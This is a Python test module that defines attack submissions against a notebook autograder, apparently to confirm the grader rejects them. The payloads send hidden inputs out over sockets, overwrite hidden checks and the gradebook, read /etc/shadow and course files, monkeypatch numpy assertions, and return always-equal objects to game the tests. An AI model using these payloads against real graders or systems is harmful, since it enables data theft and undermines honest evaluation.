"""Attacks on the grade itself: escaping the sandbox, fooling the checks, the reference."""

from . import Attack

RELU_FORWARD = "def relu_forward(x):\n    return np.maximum(x, 0), x\n\n"
RELU_BACKWARD = "def relu_backward(dout, cache):\n    return dout * (cache > 0)\n"

_NETWORK = """\
import socket

def scale(x, a):
    for host, port in (("127.0.0.1", $port), ("1.1.1.1", 80), ("example.com", 443)):
        try:
            s = socket.create_connection((host, port), timeout=1)
            s.sendall(b"hidden inputs: " + x.tobytes())
            return x * a  # only a working connection earns the points
        except OSError:
            pass
    return None
"""

_WRITE = """\
import os

PASSING_CHECKS = "def scale(s): pass\\ndef relu_forward(s): pass\\n"

def _write(path, text, mode="a"):
    try:
        with open(path, mode) as f:
            f.write(text)
    except OSError:
        pass

def scale(x, a):
    _write("$checks/tinychecks/checks.py", PASSING_CHECKS, "w")
    _write("$course/source/tiny/tiny.ipynb", "pwned")
    _write("$course/gradebook.db", "pwned")
    _write("$course/evil-$uid.txt", "pwned")
    _write("$repo/autograder/evil-$uid.py", "pwned")
    _write("$repo/evil-$uid.txt", "pwned")
    _write("$canary", "pwned")
    _write(os.path.expanduser("~/evil-$uid.txt"), "pwned")
    return np.zeros_like(x)  # wrong: only rewritten checks could pass it
"""

_READ = """\
def scale(x, a):
    leaked = []
    for path in ("$course/source/tiny/tiny.ipynb", "$course/gradebook.db",
                 "$checks/tinychecks/checks.py", "$repo/autograder/checks/common.py",
                 "$repo/.git/HEAD", "$repo/exercises/nbgrader_config.py", "/etc/shadow"):
        try:
            with open(path, "rb") as f:
                data = f.read(200)
            if data:
                leaked.append(path)
        except OSError:
            pass
    if leaked:
        raise RuntimeError("LEAKED " + repr(leaked))
    return None
"""

_PATCH = """\
import builtins, sys, numpy, numpy.testing
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.isfinite = lambda x: numpy.ones(numpy.shape(x), bool)
builtins.abs = lambda x: 0
builtins.AssertionError = type("NotAnAssertion", (Exception,), {})
sys.modules["tinychecks"] = type(sys)("tinychecks")
"""

_LIAR = """\
class Liar(float):
    shape = (3, 5)
    dtype = "float64"
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __array__(self, *args, **kwargs):
        return np.zeros(self.shape)

class LiarArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), bool)
    def __ne__(self, other):
        return np.zeros(np.shape(self), bool)

def scale(x, a):
    return Liar(0.0)
"""

_LEAK = """\
LEAKED = []

def scale(x, a):
    LEAKED.append(x.copy())
    return x * a
"""

ATTACKS = [
    Attack("network", "connects to the grader's 127.0.0.1 port, the internet and DNS",
           answers={"scale": _NETWORK}, expect={"test_scale": False}),
    Attack("write_course", "overwrites the hidden checks, the gradebook and course files",
           answers={"scale": _WRITE}, expect={"test_scale": False}),
    Attack("read_secrets", "reads the source notebook, gradebook, checks and repository",
           answers={"scale": _READ}, expect={"test_scale": False}),
    Attack("input_transformer", "installs IPython input transformers to rewrite later cells",
           before={None: ["ip = get_ipython()\n"
                          "ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
                          "ip.input_transformers_post.append(lambda lines: ['pass\\n'])\n"]},
           answers={"scale": "def scale(x, a):\n    return None\n"},
           expect={"test_scale": False}),
    Attack("patch_checks", "patches np.allclose, numpy.testing, builtins and sys.modules",
           before={None: [_PATCH]},
           answers={"scale": "def scale(x, a):\n    return numpy.zeros_like(x)\n"},
           expect={"test_scale": False}),
    Attack("eq_always_true", "returns objects whose __eq__ is always true",
           answers={"scale": _LIAR,
                    "relu": "def relu_forward(x):\n"
                            "    return np.zeros_like(x).view(LiarArray), x\n\n" + RELU_BACKWARD},
           expect={"test_scale": False, "test_relu_forward": False,
                   "test_relu_backward": False}),
    Attack("wrong_dtype", "returns float32 for float64 input",
           answers={"scale": "def scale(x, a):\n    return (x * a).astype(np.float32)\n"},
           expect={"test_scale": False}),
    Attack("nan_outputs", "relu_forward puts a NaN in its output",
           answers={"relu": "def relu_forward(x):\n    out = np.maximum(x, 0)\n"
                            "    out.flat[0] = np.nan\n    return out, x\n\n" + RELU_BACKWARD},
           expect={"test_relu_forward": False, "test_relu_backward": False}),
    Attack("broadcast_shape", "returns a broadcastable but wrong shape",
           answers={"scale": "def scale(x, a):\n    return (x * a)[None]\n"},
           expect={"test_scale": False}),
    Attack("reseed_globals", "reseeds random/numpy globally to guess the hidden inputs",
           before={None: ["import random\nimport numpy as np\nrandom.seed(0)\nnp.random.seed(0)\n"]},
           answers={"scale": "def scale(x, a):\n    np.random.seed(0)\n"
                             "    return (np.random.normal(size=x.shape) * 2.0).astype(x.dtype)\n"},
           expect={"test_scale": False}),
    Attack("call_reference", "conv_output_size calls cnnbook's reference, then an alias",
           answers={"conv_output_size":
                    "import cnnbook.shapes\nfrom cnnbook.shapes import conv_output_size as _ref\n\n"
                    "def conv_output_size(size, kernel, stride=1, padding=0):\n    try:\n"
                    "        return cnnbook.shapes.conv_output_size(size, kernel, stride, padding)\n"
                    "    except Exception:\n        return _ref(size, kernel, stride, padding)\n"},
           expect={"test_conv_output_size": "forbidden"}),
    Attack("hoard_inputs", "keeps the hidden inputs, prints and raises them in a later cell",
           answers={"scale": _LEAK},
           after={"test_scale": ["print(LEAKED)\nraise ValueError(repr(LEAKED))\n"]}),
    Attack("correct_forward_wrong_backward", "relu_forward right, relu_backward forgets the mask",
           answers={"relu": RELU_FORWARD + "def relu_backward(dout, cache):\n    return dout\n"},
           expect={"test_relu_backward": False}),
    Attack("wrong_forward_correct_backward", "relu_forward wrong, relu_backward right",
           answers={"relu": "def relu_forward(x):\n    return np.abs(x), x\n\n" + RELU_BACKWARD},
           expect={"test_relu_forward": False, "test_relu_backward": False}),
]
